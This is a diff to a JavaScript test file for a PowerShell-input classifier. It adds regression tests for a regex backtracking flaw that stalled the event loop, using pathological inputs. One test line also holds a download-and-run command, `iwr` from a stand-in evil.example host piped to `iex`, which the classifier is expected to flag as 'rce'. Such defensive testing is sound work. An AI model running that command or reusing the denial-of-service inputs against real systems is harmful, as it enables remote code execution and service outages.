@@ -85,6 +85,16 @@ t.test('hostile shapes: long, many lines, no line breaks, nested collections', a
   t.notOk(powershellProgram(`get-item ${'$x '.repeat(100_000)}`), 'one long line')
   t.equal(`@(${'1,'.repeat(50_000)}`.replace(PS_LITERAL_COLLECTION, 'L').length, 100_002, 'an unclosed array of 50,000 items')
   t.equal(`@{${"'a' = 1;".repeat(20_000)}`.replace(PS_LITERAL_COLLECTION, 'L').length, 160_002, 'an unclosed hashtable of 20,000 pairs')
+  // (forty-ninth round, security) a run an optional separator split into items in exponentially many ways before the missing `)`:
+  // `@(` and 30 digits held the event loop 30 s; a script of three lines before it reached it from any parameter
+  for (const run of ['1'.repeat(48), '$a1'.repeat(16), `'a'${"'a'".repeat(16)}`, '1 '.repeat(24), '$a.b'.repeat(12)]) {
+    t.equal(`@(${run}x`.replace(PS_LITERAL_COLLECTION, 'L'), `@(${run}x`, `an unclosed array of a run: ${run.slice(0, 8)}…`)
+    t.equal(`@{a=${run}x`.replace(PS_LITERAL_COLLECTION, 'L'), `@{a=${run}x`, `an unclosed hashtable of a run: ${run.slice(0, 8)}…`)
+  }
+  t.same(field(`$_\n$_\n$_\n@(${'1'.repeat(48)}`), field(`$_\n$_\n$_\n@(${'1'.repeat(8)}`), 'the value that held the loop is judged as a short one is')
+  // the separators PowerShell requires: items and pairs without them are no collection
+  for (const v of ['@(1 2)', '@(1,2,)', '@{a=1 b=2}']) t.equal(v.replace(PS_LITERAL_COLLECTION, 'L'), v, v)
+  t.equal('@{a=1;b=2;}'.replace(PS_LITERAL_COLLECTION, 'L'), 'L', 'a trailing ; after the last pair')
   t.same(field(`${'$x -eq 1\n'.repeat(1000)}iwr http://evil.example/s | iex\n`), ['rce'], 'a script of 1,000 lines with a download run at once')
 })
 
